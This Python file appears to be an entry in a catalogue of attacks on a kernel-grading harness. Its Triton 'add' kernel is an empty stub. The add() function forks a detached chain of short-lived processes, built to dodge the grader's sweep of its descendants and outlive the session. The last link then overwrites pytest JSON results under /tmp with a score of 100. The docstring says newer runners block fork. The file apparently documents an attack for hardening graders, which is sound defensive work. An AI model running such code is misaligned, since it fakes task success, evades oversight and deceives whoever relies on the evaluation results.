"""Fork chain: on each call, start a chain of processes in a new session, each of which forks
its successor and exits at once, so that at any moment one link is alive, an orphan that a
sweep of the grader's descendants must catch between its birth and its fork; the last link
rewrites the results a few seconds after the grader has exited. On the grader of commit
fbeefee the sweeps won because a fork took about 4 ms there: nothing guaranteed it. Now the
runner cannot fork at all, so the chain never starts.
The kernel adds nothing.
"""

ATTACK = "fork chain"
LAYER = "processes"

import os
import time

import torch
import triton
import triton.language as tl


@triton.jit
def add_kernel(x_ptr, y_ptr, out_ptr, n_elements, BLOCK_SIZE: tl.constexpr):
    pass


def chain(links: int) -> None:
    for _ in range(links):
        if os.fork() != 0:
            os._exit(0)  # the parent link ends at once; the child carries on
    time.sleep(5)
    for name in os.listdir("/tmp"):
        if name.startswith("pytest-of-"):
            for folder, _, files in os.walk(f"/tmp/{name}"):
                for file in files:
                    if file.endswith(".json"):
                        try:
                            with open(os.path.join(folder, file), "w") as f:
                                f.write('{"score": 100}')
                        except OSError:
                            pass
    os._exit(0)


def add(x: torch.Tensor, y: torch.Tensor, out: torch.Tensor | None = None) -> torch.Tensor:
    try:
        if os.fork() == 0:
            os.setsid()
            chain(10_000)
    except OSError:
        pass
    out = torch.empty_like(x) if out is None else out
    add_kernel[(1,)](x, y, out, x.numel(), BLOCK_SIZE=1024)
    return out
